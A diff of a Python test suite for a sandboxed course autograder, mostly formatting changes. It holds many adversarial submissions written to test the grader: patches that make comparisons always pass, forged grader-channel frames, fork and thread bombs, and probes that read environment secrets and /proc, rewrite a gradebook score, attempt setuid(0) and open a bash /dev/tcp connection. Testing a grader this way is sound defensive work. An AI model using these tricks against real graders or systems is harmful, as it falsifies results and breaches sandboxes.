@@ -52,19 +52,23 @@ RIGHT, WRONG = "an honest right one", "an honest wrong one"
 HONEST = {
     RIGHT: {"points": "6.5", "status": "graded", "message": "", "double": "2", "mean_and_spread": "1.5", "Scale": "3"},
     WRONG: {
-        "points": "1.5", "status": "graded", "double": "0", "mean_and_spread": "1.5", "Scale": "0",
+        "points": "1.5",
+        "status": "graded",
+        "double": "0",
+        "mean_and_spread": "1.5",
+        "Scale": "0",
         "message": "double: You added two instead of doubling. Scale: The result is the right one times 0.5: "
-                   "a factor is missing or too many.",
+        "a factor is missing or too many.",
     },
-}  # fmt: skip
+}
 
 NOTHING_RIGHT = {
     "double": "def double(x):\n    return x - 1",
     "mean_and_spread": "def mean_and_spread(x):\n    return x.mean() + 1, x.mean() + 2",
     "Scale": "class Scale(nn.Module):\n    def __init__(self, width):\n        super().__init__()\n"
-             "        self.weight = nn.Parameter(torch.zeros(width))\n\n"
-             "    def forward(self, x):\n        return x - self.weight",
-}  # fmt: skip
+    "        self.weight = nn.Parameter(torch.zeros(width))\n\n"
+    "    def forward(self, x):\n        return x - self.weight",
+}
 VALUES = r"double: The result has the right shape, but 100% of its values differ"
 
 
@@ -140,9 +144,7 @@ def write(path, content=b"x"):
     with open(path, "wb") as file:
         file.write(content)
 """
-EPILOGUE = (
-    "\nraise RuntimeError(f'tried {tries}, reached {reached}, broken {broken}')\n"
-)
+EPILOGUE = "\nraise RuntimeError(f'tried {tries}, reached {reached}, broken {broken}')\n"
 
 
 def probe(name: str, source: str) -> None:
@@ -160,42 +162,61 @@ def probe(name: str, source: str) -> None:
 # -- points: patches of what might compare
 
 
-cheat("torch that says that everything is equal", """
+cheat(
+    "torch that says that everything is equal",
+    """
     import torch.testing
     yes = lambda *arguments, **options: True
     torch.allclose = torch.equal = torch.is_same_size = torch.Tensor.allclose = torch.Tensor.equal = yes
     torch.isclose = torch.eq = lambda a, *more, **options: torch.ones_like(a, dtype=torch.bool)
     torch.testing.assert_close = torch._assert = lambda *arguments, **options: None
     torch.Tensor.__eq__ = torch.isclose
-""")  # fmt: skip
-cheat("Python's builtins and operator", """
+""",
+)
+cheat(
+    "Python's builtins and operator",
+    """
     import builtins, operator
     builtins.all = builtins.any = lambda *arguments: True
     builtins.abs = builtins.max = builtins.round = lambda *arguments, **options: 0
     operator.eq = operator.is_ = operator.le = operator.lt = lambda a, b: True
     operator.ne = operator.is_not = operator.ge = operator.gt = lambda a, b: False
-""")  # fmt: skip
-cheat("math that knows one number", """
+""",
+)
+cheat(
+    "math that knows one number",
+    """
     import math, cmath, statistics
     for module in (math, cmath, statistics):
         for name in dir(module):
             if callable(getattr(module, name)) and not name.startswith("_"):
                 setattr(module, name, lambda *arguments, **options: True)
-""")  # fmt: skip
-cheat("json that writes what it likes", """
+""",
+)
+cheat(
+    "json that writes what it likes",
+    """
     import json
     json.dumps = lambda *arguments, **options: (
         '{"error": "", "line": 0, "kept": ["double", "mean_and_spread", "Scale"], "points": 6.5, "status": "right"}')
-""", says="wrote into the grader's channel")  # fmt: skip
-cheat("safetensors that saves something else", """
+""",
+    says="wrote into the grader's channel",
+)
+cheat(
+    "safetensors that saves something else",
+    """
     import safetensors.torch
     from course.checks import message
     save = safetensors.torch.save
     def zeros(tensors, metadata=None):
         return save({name: torch.zeros_like(value) for name, value in tensors.items()}, metadata)
     safetensors.torch.save = message.tensors_to_bytes = zeros
-""", says="double: Your code changes its input")  # fmt: skip
-cheat("the checks of the child say right", """
+""",
+    says="double: Your code changes its input",
+)
+cheat(
+    "the checks of the child say right",
+    """
     from course.checks import calls, observe, message
     import course.checks, course.checks.compare as compare
     right = lambda *arguments, **options: compare.Verdict("right", "All right.", share=1.0)
@@ -203,20 +224,31 @@ cheat("the checks of the child say right", """
     compare._close = compare._same = compare._call_is_right = lambda *arguments: True
     compare.Verdict.points = lambda self, of: of
     compare.Expected.tolerance = 1e9
-""")  # fmt: skip
-cheat("an observe that sees what it wants", """
+""",
+)
+cheat(
+    "an observe that sees what it wants",
+    """
     from course.checks import calls, observe
     def dream(objects, asked):
         notes = {"0.status": "right", "0.points": "2", "0.verdict": "All right.", "0.share": "1.0"}
         return calls.Observation({"0.out": torch.zeros(3, 4), "0.grad.x": torch.zeros(3, 4)}, notes)
     observe.observe = dream
-""", says="double: ")  # fmt: skip
-cheat("an Observation that writes a verdict", """
+""",
+    says="double: ",
+)
+cheat(
+    "an Observation that writes a verdict",
+    """
     from course.checks import calls
     from course.checks.message import pack
     calls.Observation.to_bytes = lambda self: pack({}, {"status": "right", "points": 2.0, "share": 1.0})
-""", says="wrote into the grader's channel")  # fmt: skip
-cheat("calls with easier inputs", """
+""",
+    says="wrote into the grader's channel",
+)
+cheat(
+    "calls with easier inputs",
+    """
     from course.checks import calls
     honest = calls.calls_from_bytes
     def easier(data):
@@ -226,29 +258,45 @@ cheat("calls with easier inputs", """
             call.parameters.clear()
         return made
     calls.calls_from_bytes = easier
-""", says="double: ")  # fmt: skip
-cheat("a worker that reports what it likes", """
+""",
+    says="double: ",
+)
+cheat(
+    "a worker that reports what it likes",
+    """
     import json
     from course.checks.message import pack
     from course.grading import worker
     worker._observe = lambda payload, objects: pack({"0.out": torch.ones(3, 4)}, {"0.right": "right"})
     worker._run_cell = lambda request, namespace, kept: {"error": "", "line": 0, "kept": request["keep"], "points": 9}
     worker._describe = lambda raised: "all right"
-""", says="double: ")  # fmt: skip
-cheat("frames packed as something else", """
+""",
+    says="double: ",
+)
+cheat(
+    "frames packed as something else",
+    """
     from course.grading import frames
     honest = frames.pack
     frames.pack = lambda kind, number, payload=b"": honest(b"V", number, b'{"points": 6.5, "status": "graded"}')
-""", says="wrote into the grader's channel")  # fmt: skip
-cheat("frames with another number", """
+""",
+    says="wrote into the grader's channel",
+)
+cheat(
+    "frames with another number",
+    """
     from course.grading import frames
     honest = frames.pack
     frames.pack = lambda kind, number, payload=b"": b"".join(honest(kind, n, payload) for n in range(50) if n != number)
     frames.pack.__defaults__ = (b"",)
     import signal
     signal.alarm(1)
-""", says="double: ")  # fmt: skip
-cheat("names in place of the answer: kept is everything", """
+""",
+    says="double: ",
+)
+cheat(
+    "names in place of the answer: kept is everything",
+    """
     from course.grading import worker
     import sys
     frame = sys._getframe()
@@ -257,11 +305,14 @@ cheat("names in place of the answer: kept is everything", """
             if name == "kept" and isinstance(value, dict):
                 value.update(Scale=None, mean_and_spread=lambda x: (x, x), double=lambda x: x - 1)
         frame = frame.f_back
-""")  # fmt: skip
+""",
+)
 
 # -- points: rewriting what runs later
 
-cheat("IPython hooks and input transformers", """
+cheat(
+    "IPython hooks and input transformers",
+    """
     shell = get_ipython()
     if shell:
         shell.input_transformers_post.append(lambda lines: ["pass"])
@@ -271,8 +322,11 @@ cheat("IPython hooks and input transformers", """
         InteractiveShell.run_cell = lambda *arguments, **options: None
     except ImportError:
         pass
-""")  # fmt: skip
-cheat("a trace of every line", """
+""",
+)
+cheat(
+    "a trace of every line",
+    """
     import sys, threading
     def trace(frame, event, argument):
         if frame.f_code.co_name in ("_observe_call", "judge", "_close", "_same", "pack"):
@@ -282,8 +336,12 @@ cheat("a trace of every line", """
     for frame in sys._current_frames().values():
         while frame:
             frame.f_trace, frame = trace, frame.f_back
-""", says="double: ")  # fmt: skip
-cheat("a finder in sys.meta_path and hooks of import", """
+""",
+    says="double: ",
+)
+cheat(
+    "a finder in sys.meta_path and hooks of import",
+    """
     import builtins, importlib, sys, types
     class Finder:
         def find_spec(self, name, path=None, target=None):
@@ -296,16 +354,24 @@ cheat("a finder in sys.meta_path and hooks of import", """
     sys.path_importer_cache.clear()
     for name in [name for name in sys.modules if name.startswith("course.checks")]:
         del sys.modules[name]
-""", says="double: ")  # fmt: skip
-cheat("linecache, compile and exec", """
+""",
+    says="double: ",
+)
+cheat(
+    "linecache, compile and exec",
+    """
     import builtins, linecache
     linecache.getlines = lambda *arguments: ["assert True"]
     linecache.cache.clear()
     honest, run = builtins.compile, builtins.exec
     builtins.compile = lambda source, name, mode, **options: honest("pass", name, mode, **options)
     builtins.exec = lambda code, space, *more: space.update(Scale=object, mean_and_spread=print)
-""", says="double: ")  # fmt: skip
-cheat("a class statement of its own", """
+""",
+    says="double: ",
+)
+cheat(
+    "a class statement of its own",
+    """
     import builtins
     honest = builtins.__build_class__
     def build(body, name, *bases, **options):
@@ -315,8 +381,11 @@ cheat("a class statement of its own", """
         made.points = 9
         return made
     builtins.__build_class__ = build
-""")  # fmt: skip
-cheat("garbage collector callbacks, audit hooks and exit handlers", """
+""",
+)
+cheat(
+    "garbage collector callbacks, audit hooks and exit handlers",
+    """
     import atexit, gc, sys, threading
     def later(*arguments):
         for thing in gc.get_objects():
@@ -326,15 +395,20 @@ cheat("garbage collector callbacks, audit hooks and exit handlers", """
     atexit.register(later)
     threading.Thread(target=lambda: [later() for _ in range(3)], daemon=True).start()
     sys.excepthook = sys.unraisablehook = later
-""")  # fmt: skip
-cheat("bytecode of others replaced", """
+""",
+)
+cheat(
+    "bytecode of others replaced",
+    """
     from course.checks import observe
     from course.grading import worker
     def silent(module, call, i, seen): return {}
     observe._load_parameters.__code__ = silent.__code__
     observe._note_error.__code__ = (lambda error, target, i, seen: None).__code__
     worker._flush.__code__ = (lambda: None).__code__
-""", says="double: .*values differ")  # fmt: skip
+""",
+    says="double: .*values differ",
+)
 
 # -- points: values that answer for themselves
 
@@ -356,13 +430,19 @@ cheat(
     SUBCLASS.format("(x - 1).as_subclass(Yes)"),
     says="returned a Yes",
 )
-cheat("a Parameter subclass", """
+cheat(
+    "a Parameter subclass",
+    """
     class Yes(torch.nn.Parameter):
         __eq__ = allclose = equal = lambda self, *other: True
     def double(x):
         return Yes(x.detach() - 1)
-""", says="returned a Yes")  # fmt: skip
-cheat("a subclass that dispatches for itself", """
+""",
+    says="returned a Yes",
+)
+cheat(
+    "a subclass that dispatches for itself",
+    """
     class Yes(torch.Tensor):
         @staticmethod
         def __new__(cls, inner): return torch.Tensor._make_wrapper_subclass(cls, inner.shape)
@@ -370,16 +450,24 @@ cheat("a subclass that dispatches for itself", """
         def __torch_dispatch__(cls, operator, types, arguments=(), options=None): return torch.ones(())
     def double(x):
         return Yes(x - 1)
-""", says="returned a Yes")  # fmt: skip
-cheat("a class that says it is a Tensor", """
+""",
+    says="returned a Yes",
+)
+cheat(
+    "a class that says it is a Tensor",
+    """
     class Anything:
         __class__ = torch.Tensor
         def __getattr__(self, name): return lambda *arguments, **options: True
         __eq__ = lambda self, other: True
     def double(x):
         return Anything()
-""", says="returned a Anything")  # fmt: skip
-cheat("an object with __array__ and one that converts itself", """
+""",
+    says="returned a Anything",
+)
+cheat(
+    "an object with __array__ and one that converts itself",
+    """
     class Array:
         __array_interface__ = {"shape": (3, 4), "typestr": "<f4", "data": (0, False), "version": 3}
         def __array__(self, *arguments, **options): return torch.ones(3, 4).numpy()
@@ -387,8 +475,12 @@ cheat("an object with __array__ and one that converts itself", """
         def __torch_function__(self, *arguments, **options): return True
     def double(x):
         return [[Array()] * 4] * 3
-""", says="double: ")  # fmt: skip
-cheat("a mode that answers for every operator", """
+""",
+    says="double: ",
+)
+cheat(
+    "a mode that answers for every operator",
+    """
     from torch.utils._python_dispatch import TorchDispatchMode
     from torch.overrides import TorchFunctionMode
     class Dispatch(TorchDispatchMode):
@@ -401,13 +493,19 @@ cheat("a mode that answers for every operator", """
                 return True
             return function(*arguments, **(options or {}))
     Dispatch().__enter__(); Function().__enter__()
-""", says="double: ")  # fmt: skip
-cheat("a fake tensor", """
+""",
+    says="double: ",
+)
+cheat(
+    "a fake tensor",
+    """
     from torch._subclasses.fake_tensor import FakeTensorMode
     def double(x):
         with FakeTensorMode(allow_non_fake_inputs=True):
             return torch.empty(3, 4)
-""", says="returned a FakeTensor")  # fmt: skip
+""",
+    says="returned a FakeTensor",
+)
 returned("a meta tensor", "torch.empty(3, 4, device='meta')", "double: ")
 returned(
     "a sparse tensor",
@@ -430,18 +528,14 @@ returned(
     "torch.complex(2 * x, torch.ones_like(x))",
     "should hold real numbers; yours are complex",
 )
-returned(
-    "a view with 2**40 elements", "torch.zeros(1).expand(2**20, 2**20)", "double: "
-)
+returned("a view with 2**40 elements", "torch.zeros(1).expand(2**20, 2**20)", "double: ")
 returned(
     "a shape of 2**62 without elements",
     "torch.zeros(0).expand(2**31, 2**31, 0)",
     "double: ",
 )
 returned("a thousand axes", "torch.zeros([1] * 64)", "double: ")
-returned(
-    "nothing but NaN", "x * float('nan')", "values of the result are NaN or infinite"
-)
+returned("nothing but NaN", "x * float('nan')", "values of the result are NaN or infinite")
 returned(
     "infinity, which is close to infinity",
     "x + float('inf')",
@@ -464,7 +558,11 @@ returned(
     "exec('raise ValueError(\"<script>alert(1)</script>\" * 10**6)')",
     "double: Your code stopped with",
 )
-CLASS.append(Attack("parameters that are somebody else's", {"Scale": """\
+CLASS.append(
+    Attack(
+        "parameters that are somebody else's",
+        {
+            "Scale": """\
 class Scale(nn.Module):
     def __init__(self, width):
         super().__init__()
@@ -475,7 +573,11 @@ class Scale(nn.Module):
         return x
     def eval(self):
         raise SystemExit("all right")
-"""}, "SystemExit: your code asked Python to quit"))  # fmt: skip
+"""
+        },
+        "SystemExit: your code asked Python to quit",
+    )
+)
 
 # -- points: words on the channel. Whoever is in the child finds it; so the attacker is spared the search.
 
@@ -490,23 +592,21 @@ CHANNEL = """
 """
 
 
-def frame_attack(
-    name: str, source: str, says: str = "double: ", cells: dict | None = None
-) -> None:
-    source = (
-        NOTHING_RIGHT["double"]
-        + "\n"
-        + textwrap.dedent(CHANNEL)
-        + textwrap.dedent(source)
-    )
+def frame_attack(name: str, source: str, says: str = "double: ", cells: dict | None = None) -> None:
+    source = NOTHING_RIGHT["double"] + "\n" + textwrap.dedent(CHANNEL) + textwrap.dedent(source)
     CLASS.append(Attack(name, {"double": source, **(cells or {})}, says))
 
 
-frame_attack("answers to questions that were not asked yet", """
+frame_attack(
+    "answers to questions that were not asked yet",
+    """
     for number in range(200):
         send(frames.pack(frames.CELL, number, told) + frames.pack(frames.OBSERVE, number, answer))
-""")  # fmt: skip
-frame_attack("an answer before the question, for the next request only", """
+""",
+)
+frame_attack(
+    "an answer before the question, for the next request only",
+    """
     import sys
     frame = sys._getframe()
     while "number" not in frame.f_locals or "kind" not in frame.f_locals:
@@ -514,39 +614,57 @@ frame_attack("an answer before the question, for the next request only", """
     number = frame.f_locals["number"]
     for ahead in (1, 2, 3, 4):
         send(frames.pack(frames.RULE, number + ahead) + frames.pack(frames.OBSERVE, number + ahead, answer))
-""")  # fmt: skip
+""",
+)
 frame_attack(
     "a frame of four gigabytes",
     "send(frames.HEADER.pack(b'C', 1, 2**32 - 1) + bytes(2**16))",
     "returned far too much",
 )
-frame_attack("half a frame, then silence", """
+frame_attack(
+    "half a frame, then silence",
+    """
     send(frames.HEADER.pack(b'C', 1, 1000) + b'x')
     os._exit(0)
-""", "ended the process it ran in")  # fmt: skip
-frame_attack("half a frame, then a closed line", """
+""",
+    "ended the process it ran in",
+)
+frame_attack(
+    "half a frame, then a closed line",
+    """
     send(b'C\\0')
     _Line.channel.shutdown(2)
-""")  # fmt: skip
+""",
+)
 frame_attack(
     "a frame of no kind",
     "send(frames.HEADER.pack(b'Z', 1, 0))",
     "wrote into the grader's channel",
 )
-frame_attack("frames without end", """
+frame_attack(
+    "frames without end",
+    """
     while True:
         send(frames.pack(frames.OBSERVE, 10**6, bytes(1000)))
-""", "wrote into the grader's channel, and without end")  # fmt: skip
-frame_attack("empty frames without end", """
+""",
+    "wrote into the grader's channel, and without end",
+)
+frame_attack(
+    "empty frames without end",
+    """
     while True:
         send(frames.pack(frames.ASK, 7) * 10_000)
-""", "wrote into the grader's channel, and without end")  # fmt: skip
+""",
+    "wrote into the grader's channel, and without end",
+)
 frame_attack(
     "a question where nobody answers",
     "send(frames.pack(frames.ASK, 1, answer))",
     "returned far too much",
 )
-frame_attack("an answer of a thousand bombs", """
+frame_attack(
+    "an answer of a thousand bombs",
+    """
     def header(entries, more=b""):
         text = json.dumps({"__metadata__": {"json": "{}"}, **entries}).encode()
         return struct.pack("<Q", len(text)) + text + more
@@ -567,7 +685,8 @@ frame_attack("an answer of a thousand bombs", """
     worker._observe = lambda payload, objects: bombs[7]
     for number in range(200):
         send(frames.pack(frames.OBSERVE, number, bombs[number % len(bombs)]))
-""")  # fmt: skip
+""",
+)
 for name, reply in {
     "nested too deeply": '"[" * 30_000',
     "a number of ten thousand digits": '\'{"line": \' + "9" * 10_000 + \', "error": "", "kept": []}\'',
@@ -576,12 +695,15 @@ for name, reply in {
     "half a character": '\'{"line": 0, "error": "\\\\ud800\\\\u0000\\\\u202e", "kept": []}\'',
     "no text at all": '"\\xff"',
     "nothing but names": '\'{"line": -5, "error": "", "kept": ["double", "__proto__", "constructor", "Scale"]}\'',
-}.items():  # fmt: skip
-    frame_attack(f"a reply to the cell: {name}", f"""
+}.items():
+    frame_attack(
+        f"a reply to the cell: {name}",
+        f"""
         reply = ({reply}).encode("latin-1")
         for number in range(60):
             send(frames.pack(frames.CELL, number, reply))
-    """)  # fmt: skip
+    """,
+    )
 
 # -- points: asking who knows. Only what uses an earlier wrong exercise is run again with the course's own answers.
 
@@ -611,21 +733,22 @@ def asks(
     says: str = "Scale: .*values differ|Scale: Your code stopped|Scale: The result",
 ) -> None:
     scale = ASKS.format(textwrap.indent(textwrap.dedent(source), " " * 8))
-    CLASS.append(
-        Attack(
-            name, {"double": "def double(x):\n    return x + 2", "Scale": scale}, says
-        )
-    )
+    CLASS.append(Attack(name, {"double": "def double(x):\n    return x + 2", "Scale": scale}, says))
 
 
-asks("the answer to the exercise itself", """
+asks(
+    "the answer to the exercise itself",
+    """
 for target in ("Scale", "mean_and_spread", "Scale.forward", "double\\0Scale", ["Scale"], None):
     try:
         return stand_in.stand_in(target)(5)(x)
     except Exception:
         pass
-""")  # fmt: skip
-asks("an answer by the name of something else", """
+""",
+)
+asks(
+    "an answer by the name of something else",
+    """
 for target in ("__builtins__", "torch", "nn", "os.system", "__name__", "torch.load", "double.__globals__", "check"):
     for do in ("call", "make", "tell", "exec", "__class__", None):
         try:
@@ -634,20 +757,29 @@ for target in ("__builtins__", "torch", "nn", "os.system", "__name__", "torch.lo
             return torch.full_like(x, 1e9)
         except RuntimeError:
             pass
-""")  # fmt: skip
-asks("huge arguments", """
+""",
+)
+asks(
+    "huge arguments",
+    """
 for value in (torch.zeros(2**22), torch.zeros(1).expand(2**40), "x" * 2**23, [0] * 10**5, 10 ** 4000, [[]]):
     try:
         stand_in.stand_in("double")(value)
     except Exception:
         pass
-""")  # fmt: skip
-asks("thousands of questions", """
+""",
+)
+asks(
+    "thousands of questions",
+    """
 for i in range(3000):
     stand_in._Line.channel.sendall(frames.pack(frames.ASK, i, b""))
     assert frames.read(stand_in._Line.answers)
-""")  # fmt: skip
-asks("malformed questions", """
+""",
+)
+asks(
+    "malformed questions",
+    """
 for payload in (b"", b"{}", b"\\xff" * 1000, bytes(8) + b"{}", pack({}, {}), pack({}, []),
                 pack({}, {"target": "double"}),
                 pack({}, {"target": "double", "do": "call", "heard": 3, "wanted": ["nothing"]}),
@@ -656,17 +788,24 @@ for payload in (b"", b"{}", b"\\xff" * 1000, bytes(8) + b"{}", pack({}, {}), pac
                 (200_000).to_bytes(8, "little") + b"[" * 200_000):
     stand_in._Line.channel.sendall(frames.pack(frames.ASK, 2**32 - 1, payload))
     assert frames.read(stand_in._Line.answers)
-""")  # fmt: skip
-asks("an answer to nobody's question, then the right to ask kept", """
+""",
+)
+asks(
+    "an answer to nobody's question, then the right to ask kept",
+    """
 if os.fork() == 0:
     os.setsid()
     while True:
         stand_in._Line.channel.sendall(frames.pack(frames.ASK, 5, b""))
-""", "Scale: ")  # fmt: skip
+""",
+    "Scale: ",
+)
 
 # -- points: from a process that stays
 
-cheat("a detached process that answers later", """
+cheat(
+    "a detached process that answers later",
+    """
     import os, time
     from course.checks.message import pack
     from course.grading import frames
@@ -680,8 +819,12 @@ cheat("a detached process that answers later", """
                     _Line.channel.sendall(frames.pack(frames.OBSERVE, number, forged))
                 time.sleep(0.01)
         os._exit(0)
-""", says="double: ")  # fmt: skip
-cheat("a thread that answers later", """
+""",
+    says="double: ",
+)
+cheat(
+    "a thread that answers later",
+    """
     import threading, time
     from course.checks.message import pack
     from course.grading import frames
@@ -691,8 +834,12 @@ cheat("a thread that answers later", """
         for number in range(100):
             _Line.channel.sendall(frames.pack(frames.OBSERVE, number, forged))
     threading.Thread(target=later, daemon=True).start()
-""", says="double: ")  # fmt: skip
-cheat("processes that go on for ever", f"""
+""",
+    says="double: ",
+)
+cheat(
+    "processes that go on for ever",
+    f"""
     import os, subprocess, sys, time
     for i in range(5):
         subprocess.Popen(["sleep", "3600"], env={{"{MARK}": "1"}}, start_new_session=i % 2 == 0)
@@ -701,7 +848,8 @@ cheat("processes that go on for ever", f"""
         if os.fork() == 0:
             os.execv(sys.executable, ["{MARK}", "-c", "import time\\nwhile True: time.sleep(1)"])
         os._exit(0)
-""")  # fmt: skip
+""",
+)
 
 # -- ends
 
@@ -710,9 +858,7 @@ def ends(name: str, source: str, says: str) -> None:
     CLASS.append(
         Attack(
             name,
-            {
-                "double": f"{NOTHING_RIGHT['double']}\n\nimport ctypes, os, signal, sys, threading\n{source}"
-            },
+            {"double": f"{NOTHING_RIGHT['double']}\n\nimport ctypes, os, signal, sys, threading\n{source}"},
             says,
         )
     )
@@ -766,9 +912,11 @@ ends(
 
 # -- more than is sensible, soon over
 
-ends("two megabytes on each of three ways out",
-     "for w in (sys.stdout, sys.stderr):\n    w.write('x' * 2**21)\nos.write(1, b'y' * 2**21)",
-     "over the limit on output")  # fmt: skip
+ends(
+    "two megabytes on each of three ways out",
+    "for w in (sys.stdout, sys.stderr):\n    w.write('x' * 2**21)\nos.write(1, b'y' * 2**21)",
+    "over the limit on output",
+)
 ends(
     "a thread bomb",
     "import time\nwhile True:\n    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
@@ -814,7 +962,9 @@ ends(
 # -- what can be reached
 
 
-probe("read the answers from the disk", """
+probe(
+    "read the answers from the disk",
+    """
     attempt("solutions", lambda: os.listdir(here.root + "/solutions"))
     attempt("exercises", lambda: read(here.root + "/solutions/hw9_small/exercises.py"))
     attempt("source", lambda: read(here.root + "/solutions/hw9_small/hw9_small.py"))
@@ -839,8 +989,11 @@ probe("read the answers from the disk", """
             lambda: bool(set(os.listdir(here.temporary)) - {os.path.basename(os.getcwd())}))
     attempt("through a link", lambda: os.symlink(here.out, "link") or os.listdir("link"))
     attempt("through dots", lambda: read("../" * 30 + here.out.lstrip("/") + "/run.json"))
-""")  # fmt: skip
-probe("find the answers by walking", """
+""",
+)
+probe(
+    "find the answers by walking",
+    """
     import importlib.metadata, importlib.util, site, sysconfig
 
     def walk():
@@ -883,8 +1036,11 @@ probe("find the answers by walking", """
             lambda: bool(os.listdir(here.package + "/models")) if "namespaces" in here.kind else False)
     attempt("the authoring code",
             lambda: bool(os.listdir(here.package + "/authoring")) if "namespaces" in here.kind else False)
-""")  # fmt: skip
-probe("look through proc", """
+""",
+)
+probe(
+    "look through proc",
+    """
     parent = os.getppid()
     near = [n for n in {parent, here.pid, 1, *range(max(2, here.pid - 30), here.pid + 30)} - {os.getpid()} if n > 0]
 
@@ -917,8 +1073,11 @@ probe("look through proc", """
     attempt("kernel messages", lambda: read("/proc/kmsg"))
     attempt("kernel memory", lambda: read("/proc/kcore"))
     attempt("block devices", lambda: any(read(path) for path in glob.glob("/dev/[svx]d*") + ["/dev/mem", "/dev/vda"]))
-""")  # fmt: skip
-probe("read the environment", """
+""",
+)
+probe(
+    "read the environment",
+    """
     everything = json.dumps(dict(os.environ)) + open("/proc/self/cmdline").read()
     everything += open("/proc/self/environ", errors="replace").read()
     attempt("a secret", lambda: here.secret in everything)
@@ -928,8 +1087,11 @@ probe("read the environment", """
             lambda: bool(set(os.environ) & {"USER", "LOGNAME", "SUDO_USER", "SSH_AUTH_SOCK", "PYTEST_CURRENT_TEST"}))
     attempt("name of the machine",
             lambda: here.host in open("/proc/sys/kernel/hostname").read() and "namespaces" in here.kind)
-""")  # fmt: skip
-probe("search frames and objects", """
+""",
+)
+probe(
+    "search frames and objects",
+    """
     import gc, inspect
     names = set()
     frame = sys._getframe()
@@ -948,8 +1110,11 @@ probe("search frames and objects", """
     attempt("functions of the answers", lambda: any(f.__code__.co_filename.endswith("exercises.py") for f in functions))
     files = [thing.name for thing in gc.get_objects() if type(thing).__name__ == "FileIO"]
     attempt("open files", lambda: any(not isinstance(name, int) for name in files))
-""")  # fmt: skip
-probe("search its own memory for what it inherited", """
+""",
+)
+probe(
+    "search its own memory for what it inherited",
+    """
     # The words of the searches do not match themselves.
     words = [rb"he model answer, which nobody(?<=[T].{28})", rb"ou added two instead of(?<=[Y].{22})",
              rb"ef plus_two(?<=[d].{10})"]
@@ -973,8 +1138,11 @@ probe("search its own memory for what it inherited", """
     attempt("an answer", memory)
     attempt("memory shared with others", lambda: any(
         line.split()[1] == "rw-s" and "/dev/zero" not in line for line in open("/proc/self/maps")))
-""")  # fmt: skip
-probe("use the descriptors that it was given", """
+""",
+)
+probe(
+    "use the descriptors that it was given",
+    """
     import stat
     fd = "/proc/self/fd/"
     own = {int(n): os.readlink(fd + n) for n in os.listdir(fd) if os.path.exists(fd + n)}
@@ -992,8 +1160,11 @@ probe("use the descriptors that it was given", """
     attempt("the other end's name", lambda: bool(socket.socket(fileno=os.dup(sockets[0])).getpeername()))
     attempt("the terminal", lambda: os.open("/dev/tty", os.O_RDWR))
     attempt("type into the terminal", lambda: __import__("fcntl").ioctl(0, 0x5412, b"x"))
-""")  # fmt: skip
-probe("write where it has no business", f"""
+""",
+)
+probe(
+    "write where it has no business",
+    f"""
     attempt("gradebook",
             lambda: sqlite3.connect(here.out + "/gradebook.db").execute("update grade set manual_score = 99"))
     attempt("grades", lambda: write(here.out + "/grades.csv"))
@@ -1022,8 +1193,11 @@ probe("write where it has no business", f"""
     attempt("disk", lambda: os.mknod("{MARK}d", 0o60666, os.makedev(254, 0)))
     attempt("linked in", lambda: os.link(torch.__file__, "{MARK}l"))
     attempt("through a link", lambda: os.symlink(here.out + "/{MARK}", "{MARK}s") or write("{MARK}s"))
-""")  # fmt: skip
-probe("send something", """
+""",
+)
+probe(
+    "send something",
+    """
     def tcp(family, address):
         with socket.socket(family) as line:
             line.settimeout(0.5)
@@ -1067,8 +1241,11 @@ probe("send something", """
             lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"x", f"\\0{here.abstract}d"))
     attempt("a program that is there already",
             lambda: os.system(f"bash -c 'echo > /dev/tcp/127.0.0.1/{here.port}' 2>/dev/null") == 0)
-""")  # fmt: skip
-probe("touch other processes", """
+""",
+)
+probe(
+    "touch other processes",
+    """
     parent = os.getppid()
     others = [n for n in {parent, here.pid, here.sleeper, 1} - {os.getpid()} if n > 0]
 
@@ -1110,8 +1287,11 @@ probe("touch other processes", """
     attempt("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10)))
     attempt("less likely to be ended", lambda: write("/proc/self/oom_score_adj", b"-1000"))
     attempt("larger limits", lambda: call("setrlimit", 7, struct.pack("QQ", 10**6, 10**6)))
-""")  # fmt: skip
-probe("become more", """
+""",
+)
+probe(
+    "become more",
+    """
     attempt("root", lambda: os.getuid() != 0 and os.setuid(0))
     attempt("root's group", lambda: os.getgid() != 0 and os.setgid(0))
     attempt("groups", lambda: os.setgroups([0]))
@@ -1133,13 +1313,17 @@ probe("become more", """
     attempt("another architecture's calls", lambda: call("personality", ctypes.c_ulong(8)))
     attempt("reboot", lambda: call("reboot", 0))
     attempt("clock", lambda: __import__("time").clock_settime(0, 0))
-""")  # fmt: skip
+""",
+)
 LEAVES = """
     places = ["/dev/shm", "/tmp", "/var/tmp", os.getcwd(), os.path.dirname(os.getcwd()), os.environ["TMPDIR"],
               os.environ["MPLCONFIGDIR"], "/sandbox/server", "/sandbox/job", "/sandbox/exchange", "/run", "/run/lock",
               "/var/lock", "/dev", "/dev/mqueue", here.temporary]
 """
-probe("leave a word for the next one", LEAVES + f"""
+probe(
+    "leave a word for the next one",
+    LEAVES
+    + f"""
     for place in places:
         try:
             write(place + "/{MARK}word")
@@ -1157,8 +1341,12 @@ probe("leave a word for the next one", LEAVES + f"""
         except (OSError, AttributeError):
             pass
     attempt("nothing", lambda: False)
-""")  # fmt: skip
-probe("take up a word that was left", LEAVES + f"""
+""",
+)
+probe(
+    "take up a word that was left",
+    LEAVES
+    + f"""
     attempt("files", lambda: [place for place in places if os.path.exists(place + "/{MARK}word")] or False)
     attempt("shared memory", lambda: libc.shmget(0x5EC2E7, 4096, 0) >= 0)
     attempt("semaphores", lambda: libc.semget(0x5EC2E7, 1, 0) >= 0)
@@ -1168,7 +1356,8 @@ probe("take up a word that was left", LEAVES + f"""
             lambda: libc.shm_open(b"/{MARK}", 0, 0) >= 0 if hasattr(libc, "shm_open") else False)
     attempt("files that nobody took away", lambda: bool(os.listdir(os.getcwd())) or len(os.listdir("/dev/shm")) > 0
             if "namespaces" in here.kind else bool(os.listdir(os.getcwd())))
-""")  # fmt: skip
+""",
+)
 
 
 # -- time and memory
@@ -1185,7 +1374,9 @@ def short(name: str, source: str, says: str, where: str = "double", attacks: lis
 
 
 LATE = "did not come to an end within 3 seconds"
-short("a loop that ignores every signal", """
+short(
+    "a loop that ignores every signal",
+    """
     for n in range(1, 65):
         try: signal.signal(n, signal.SIG_IGN)
         except Exception: pass
@@ -1193,13 +1384,13 @@ short("a loop that ignores every signal", """
         try:
             while True: pass
         except BaseException: pass
-""", LATE)  # fmt: skip
+""",
+    LATE,
+)
